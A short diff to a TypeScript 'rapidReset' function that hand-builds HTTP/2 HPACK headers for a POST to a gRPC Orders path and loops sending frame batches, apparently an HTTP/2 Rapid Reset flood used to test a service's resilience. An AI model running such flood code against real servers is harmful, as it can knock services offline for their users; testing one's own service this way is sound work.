@@ -59,8 +59,8 @@ export async function rapidReset(url: string, count: number): Promise<number | n
   });
   socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
   const path = Buffer.from('/daybook.orders.v1.Orders/Orders');
-  // POST, http, and a path as it is, by the static table of HPACK.
-  const headers = Buffer.concat([Buffer.from([0x83, 0x86, 0x04, path.length]), path]);
+  // POST, http, an authority and a path as they are, by the static table of HPACK.
+  const headers = Buffer.concat([Buffer.from([0x83, 0x86, 0x01, 1, 0x78, 0x04, path.length]), path]);
   for (let made = 0; made < count; made += RESETS_A_WRITE) {
     if (isOver) return made;
     const frames = Array.from({ length: RESETS_A_WRITE }, (_, i) => {
